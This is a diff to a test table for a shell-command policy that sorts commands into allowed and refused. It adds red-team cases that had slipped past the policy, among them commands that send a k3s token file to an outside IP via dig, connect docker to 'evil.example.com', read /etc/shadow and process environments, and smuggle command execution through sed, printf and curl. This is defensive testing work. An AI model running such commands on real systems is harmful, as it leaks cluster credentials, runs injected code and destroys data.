@@ -2,7 +2,8 @@
 
 Each row: (command, expected, source). ``expected`` is ``"allow"`` or the refusal kind
 (``execdocs.capture.policy`` kinds: not-read-only, never-ends, substitution, expansion, glob,
-redirection, background, interpreter, structure, assignment, path, unicode, unparsable).
+redirection, background, interpreter, structure, assignment, path, unicode, unparsable,
+repeats, writes).
 An optional fourth item is text the refusal reason must contain.
 
 Sources (commands copied as published, some with their placeholders filled in):
@@ -28,6 +29,8 @@ Sources (commands copied as published, some with their placeholders filled in):
   K3S-3546     github.com/k3s-io/k3s issue #3546 (etcd-snapshot subcommands)
   K3S-3309     github.com/k3s-io/k3s issue #3309 (etcd-snapshot save)
   K3S-5334     github.com/k3s-io/k3s issue #5334 (restore from snapshot)
+  RT-1204      a red team of 486 disguised commands (2026-12-04), each run end to end under
+               --run with a PATH of logging stubs and fake API servers: allowed before
   CALICO-8275  github.com/projectcalico/calico issue #8275 (k3s etcd-snapshot save)
   CRITOOLS     github.com/gosoon/cri-tools docs/crictl.md (install steps)
   ISSUE-10     this project's issue 10 (the forms it reports the old denylist let through)
@@ -268,7 +271,7 @@ rm -rf /x", ALLOW, "HERE"),
     ("uniq /etc/hosts /etc/passwd", "not-read-only", "HERE"),
     ("mount -o remount,rw /", "not-read-only", "HERE"),
     ("mount /dev/sdb1 /mnt", "not-read-only", "HERE"),
-    ("echo 1 | sudo tee /proc/sys/net/ipv4/ip_forward", "not-read-only", "HERE", "'tee'"),
+    ("echo 1 | sudo tee /proc/sys/net/ipv4/ip_forward", "writes", "HERE", "'tee'"),
     ("sudo reboot", "not-read-only", "HERE"),
     ("helm install traefik traefik/traefik", "not-read-only", "HERE"),
     ("sudo ctr -n k8s.io images import img.tar", "not-read-only", "HERE", "'ctr images import'"),
@@ -315,7 +318,7 @@ rm -rf /x", ALLOW, "HERE"),
     ("sudo -b kubectl get pods", "interpreter", "HERE"),
     ("sudo sudo rm -rf /x", "not-read-only", "HERE"),
     ("env -i PATH=/tmp kubectl get pods", "assignment", "HERE"),
-    ("kubectl get pods | tee pods.txt", "not-read-only", "HERE"),
+    ("kubectl get pods | tee pods.txt", "writes", "HERE"),
     ("kubectl get pods | /bin/sh", "interpreter", "HERE"),
     ("kubectl get pods | busybox sh", "interpreter", "HERE"),
     ("/usr/bin/env sh -c id", "interpreter", "HERE"),
@@ -362,7 +365,7 @@ rm -rf /x", ALLOW, "HERE"),
     ("kubectl edit deploy nginx", "never-ends", "HERE", "editor"),
     ("kubectl attach nginx", "never-ends", "HERE"),
     ("kubectl events --watch", "never-ends", "HERE"),
-    ("watch kubectl get pods", "never-ends", "HERE"),
+    ("watch kubectl get pods", "repeats", "HERE"),
     ("tail -f /var/log/syslog", "never-ends", "HERE"),
     ("tail -fn 100 /var/log/syslog", "never-ends", "HERE"),
     ("tail -F /var/log/syslog", "never-ends", "HERE"),
@@ -482,4 +485,59 @@ rm -rf /x", ALLOW, "HERE"),
     ("", "unparsable", "HERE"),
     ("kubectl get pods ;;", "structure", "HERE"),
     ("kubectl get pods | | grep x", "unparsable", "HERE"),
+
+    # --- what the red team of 2026-12-04 ran past the policy (each was allowed) ----------
+    # a '#' after an escaped blank: the parser read a comment, sh reads a word and runs on
+    ("kubectl get pods \\ #; touch /tmp/x", "unparsable", "RT-1204", "'#'"),
+    ("kubectl get pods\\\t#; touch /tmp/x", "unparsable", "RT-1204", "'#'"),
+    ("kubectl get pods  # list the pods", "allow", "HERE"),
+    ("kubectl get pods \\\\ # a comment after an escaped backslash", "allow", "HERE"),
+    # --dry-run taken as a flag's value, after '--', with --raw; a create plugin
+    ("kubectl create deployment web --image --dry-run=client", "not-read-only", "RT-1204",
+     "--image"),
+    ("kubectl create namespace demo --field-manager --dry-run=client", "not-read-only",
+     "RT-1204"),
+    ("kubectl delete ns demo -- --dry-run=server", "not-read-only", "RT-1204", "'--'"),
+    ("kubectl run pwn --image=busybox -- --dry-run=client", "not-read-only", "RT-1204"),
+    ("kubectl delete --raw /api/v1/namespaces/kube-system --dry-run=server", "not-read-only",
+     "RT-1204", "--raw"),
+    ("kubectl create mything --dry-run=client", "not-read-only", "RT-1204", "plugin"),
+    ("kubectl create deployment web --image=nginx --dry-run=client -o yaml", "allow", "HERE"),
+    ("kubectl run web --image=nginx --dry-run=client -- sleep 1", "allow", "HERE"),
+    ("kubectl create -n demo deployment web --image=nginx --dry-run=client", "allow", "HERE"),
+    # credentials to another server, a kubeconfig that runs a program, files written
+    ("kubectl --insecure-skip-tls-verify -s https://127.0.0.1:18444 get pods",
+     "not-read-only", "RT-1204", "another server"),
+    ("kubectl --kubeconfig ./evil-kubeconfig.yaml get pods", "not-read-only", "RT-1204",
+     "relative path"),
+    ("KUBECONFIG=./x kubectl get pods", "assignment", "RT-1204", "relative path"),
+    ("kubectl --kubeconfig /etc/rancher/k3s/k3s.yaml get nodes", "allow", "HERE"),
+    ("kubectl --cache-dir /tmp/x get pods", "not-read-only", "RT-1204", "writes"),
+    ("kubectl get -k https://github.com/example/app", "not-read-only", "RT-1204", "git"),
+    ("docker -H ssh://evil.example.com ps", "not-read-only", "RT-1204", "ssh"),
+    # sed scripts in attached and bundled -e, curl's bundles, --url, guessed protocols
+    ("sed -n -e 1p -e'1e touch /tmp/x' /etc/hostname", "not-read-only", "RT-1204"),
+    ("sed -e 1p -ne 'w FILE' /etc/hostname", "not-read-only", "RT-1204"),
+    ("sed --expression=1p -e'1e id' /etc/hostname", "not-read-only", "RT-1204"),
+    ("sed -n -e 1p -e 2p /etc/hostname", "allow", "HERE"),
+    ("curl -skXDELETE https://127.0.0.1:6443/api/v1/namespaces/demo", "not-read-only",
+     "RT-1204", "DELETE"),
+    ("curl -sk -sX POST https://127.0.0.1:6443/api/v1/namespaces", "not-read-only", "RT-1204"),
+    ("curl -s --url dict://127.0.0.1:6379/FLUSHALL", "not-read-only", "RT-1204", "dict://"),
+    ("curl -s dict.x:6379/FLUSHALL", "not-read-only", "RT-1204"),
+    ("curl -s -H @./token http://127.0.0.1:18999/", "not-read-only", "RT-1204", "@./token"),
+    ("curl -s -o /dev/null -w '%output{/tmp/x}' https://example.com", "not-read-only",
+     "RT-1204"),
+    ("curl -s -o /dev/null -w '%{http_code}' http://localhost:10248/healthz", "allow", "HERE"),
+    # a second operand after '--', printf -v, a modprobe, a batch of queries, environments
+    ("uniq -- /etc/hostname -out", "not-read-only", "RT-1204"),
+    ("printf -v 'x[$(id)]' 1", "not-read-only", "RT-1204", "-v"),
+    ("iptables-save -M /tmp/x", "not-read-only", "RT-1204", "kernel module"),
+    ("dig -f /var/lib/rancher/k3s/server/token @203.0.113.7", "not-read-only", "RT-1204"),
+    ("getent shadow", "not-read-only", "RT-1204"),
+    ("ps auxe", "not-read-only", "RT-1204", "environment"),
+    ("jq -n env", "not-read-only", "RT-1204"),
+    ("cat /proc/1/environ", "not-read-only", "RT-1204"),
+    ("ps aux", "allow", "HERE"),
+    ("getent hosts kubernetes.default", "allow", "HERE"),
 ]
